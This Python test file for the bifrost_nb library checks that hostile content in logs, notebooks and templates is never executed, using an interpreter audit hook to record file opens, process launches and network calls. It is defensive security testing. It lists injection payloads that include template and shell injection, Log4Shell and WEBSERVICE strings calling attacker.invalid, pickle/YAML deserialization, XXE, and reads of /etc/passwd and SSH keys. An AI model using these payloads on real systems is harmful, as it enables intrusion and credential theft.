"""Hostile logs, notebooks, answers and templates are data: nothing in them runs, is loaded, or reads a file.

A child process does everything once with harmless content, so that all code is loaded; then an audit hook of the
interpreter notes every file opened, process started, address asked and piece of code compiled.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import orjson
import pytest

from bifrost_nb import LocalGateway
from tests.data.hostile import HOSTILE

pytestmark = pytest.mark.timeout(600)  # a busy machine is no fault
ROOT = Path(__file__).parents[2]
ATTACKS = [
    "{{__import__('os').system('touch PWNED')}}", "{{x.__class__.__mro__}}", "${jndi:ldap://attacker.invalid/x}",
    "$(touch PWNED)", "`touch PWNED`", "; touch PWNED #", "!touch PWNED", "%run /etc/passwd", "%%bash\ntouch PWNED",
    "{0.__init__.__globals__}", "%(x)s %s %n", "\\input{/etc/passwd}", "$\\input{/etc/passwd}$",
    "$$\\write18{touch PWNED}$$",
    "file:///etc/passwd", "/etc/passwd", "../../../../etc/passwd", "@/etc/passwd", "~/.ssh/id_rsa",
    "http://attacker.invalid/",
    "<img src=file:///etc/passwd>", "![x](file:///etc/passwd)", "=cmd|' /C calc'!A0",
    "=WEBSERVICE(\"http://attacker.invalid\")",
    "!!python/object/apply:os.system ['touch PWNED']", "cos\nsystem\n(S'touch PWNED'\ntR.",
    "\x80\x04\x95posix\x94system\x93",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "__import__('os').system('touch PWNED')", "lambda: exec('1')",
]  # fmt: skip
CHILD = """
import json, os, sys, warnings
from pathlib import Path
warnings.simplefilter("ignore")
url, folder, attacks = sys.argv[1], Path(sys.argv[2]), json.loads(Path(sys.argv[3]).read_text())
os.chdir(folder)
import bifrost_nb as bf
from bifrost_nb._prompts.template import render
from bifrost_nb._display.run import FORMS, as_html, metadata, mimebundle
import matplotlib.pyplot as plt

def everything(texts, name):
    log_path, notebook = folder / f"{name}.jsonl", folder / f"{name}.ipynb"
    lines, rows = [], []
    for number, text in enumerate(texts):
        fields = {field: text for field in (
            "prompt", "response", "error_message", "error_type", "provider", "model", "model_deployment",
            "finish_reason", "requested_provider", "requested_model", "fallbacks", "params", "tags", "gateway_version",
            "rating", "cache_hit_type", "comparison_id", "prompt_id", "request_type")}
        fields |= {"run_id": f"{name}{number}", "status": "ok" if number % 2 else "error", "schema": 1, "total_ms": 5.0}
        fields["extra"] = {"texts": [text], "reasoning": text, "tool_calls": [{"function": {"name": text}}],
                           "usage": {text: text}, "logprobs": {"content": [{"token": text}]}}
        lines.append(json.dumps(fields))
        rows.append({key: value for key, value in fields.items() if key != "extra"})
    log_path.write_text("\\n".join(lines) + "\\n")
    kept = {"bifrost_nb": {"runs": rows}}
    output = {"output_type": "display_data", "data": {"text/html": texts[0]}, "metadata": kept}
    cells = [{"cell_type": "code", "source": text, "outputs": [output], "metadata": {}} for text in texts[:3]]
    book = {"cells": cells, "nbformat": 4, "nbformat_minor": 5, "metadata": {text: text for text in texts}}
    notebook.write_text(json.dumps(book))
    log = bf.RunLog(log_path)
    runs = log.read()
    assert len(runs) == len(texts)
    assert len(bf.from_notebook(notebook)) == len(texts)
    frame = log.frame()
    for kind in ("csv", "jsonl", "parquet"):
        log.export(folder / f"{name}-out.{kind}")
    for run in runs:
        repr(run), mimebundle(run, ["text/markdown"]), metadata(run)
        for form in FORMS:
            as_html(run, form)
    for text in texts:
        try:
            render(text, {"x": text, "product": text})
        except bf.BifrostError:
            pass
    client = bf.Client(url, log=bf.RunLog(folder / f"{name}-own.jsonl"))
    result = bf.compare(["azure/fast"], "Say {{x}}", inputs={"x": texts[:12]}, client=client)
    result._repr_html_(), result.summary(), result.answers(), repr(result)
    for one in result.runs:
        mimebundle(one)
    ax = result.plot.latency()
    ax.set_title("x")
    plt.close("all")

everything(["harmless", "also harmless"], "warm")
events = []
def hook(event, arguments):
    if event in ("open", "exec", "compile", "subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.fork",
                 "socket.connect", "socket.getaddrinfo", "pickle.find_class", "ctypes.dlopen", "marshal.loads",
                 "code.__new__", "webbrowser.open", "urllib.Request", "ftplib.connect", "glob.glob", "shutil.copyfile"):
        events.append([event, repr(arguments[0])[:300], repr(arguments[1:2])[:200]])
sys.addaudithook(hook)
everything(attacks, "hostile")
found, events = events, []
print(json.dumps(found))
"""


@pytest.fixture(scope="module")
def events(shared_gateway: LocalGateway, tmp_path_factory: pytest.TempPathFactory) -> tuple[list[Any], Path]:
    """What the interpreter did while it handled hostile content."""
    gateway = shared_gateway
    gateway.reset()
    texts = [text for text in [*ATTACKS, *HOSTILE] if text.isprintable() or text in ATTACKS]
    gateway.script([{"text": texts[number % len(texts)], "nth": number + 1} for number in range(40)])
    folder = tmp_path_factory.mktemp("inert")
    corpus = tmp_path_factory.mktemp("corpus") / "attacks.json"
    corpus.write_bytes(orjson.dumps(texts))
    command = [sys.executable, "-c", CHILD, gateway.url, str(folder), str(corpus)]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=500)
    gateway.script([])
    assert done.returncode == 0, done.stderr[-3000:]
    return json.loads(done.stdout), folder


def test_no_file_is_read(events: tuple[list[Any], Path]) -> None:
    """Opened were the log, the notebook and the exports, and what the interpreter and its libraries bring along."""
    found, folder = events
    known = (str(folder), str(ROOT), sys.prefix, sys.base_prefix, str(Path.home() / ".cache"), "/proc/", "/dev/null")
    opened = [target.strip("'") for event, target, _ in found if event == "open"]
    assert any(target.endswith("hostile.jsonl") for target in opened), "the hook saw what it was to see"
    assert any(target.endswith("hostile.ipynb") for target in opened)
    settings = {str(parent / "pyproject.toml") for parent in folder.parents}  # looked for from the working folder up
    foreign = [target for target in opened if not target.startswith(known) and not target.isdigit()]
    assert set(foreign) <= settings


def test_nothing_runs(events: tuple[list[Any], Path]) -> None:
    """No process, no pickle, no library; no code is compiled whose text came from outside; nothing was left behind."""
    found, folder = events
    started = ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.fork", "pickle.find_class")
    started += ("ctypes.dlopen", "webbrowser.open", "urllib.Request", "ftplib.connect", "glob.glob", "shutil.copyfile")
    assert [event for event in found if event[0] in started] == []
    assert [event for event in found if event[0] in ("compile", "exec") and any(
        word in str(event) for word in ("PWNED", "passwd", "attacker", "bifrostHacked"))] == []  # fmt: skip
    assert list(folder.rglob("PWNED*")) == []


def test_nobody_else_is_asked(events: tuple[list[Any], Path]) -> None:
    """The only address connected to is the gateway's."""
    found, _ = events
    asked = [event for event in found if event[0] in ("socket.connect", "socket.getaddrinfo")]
    assert [event for event in asked if "127.0.0.1" not in str(event)] == []
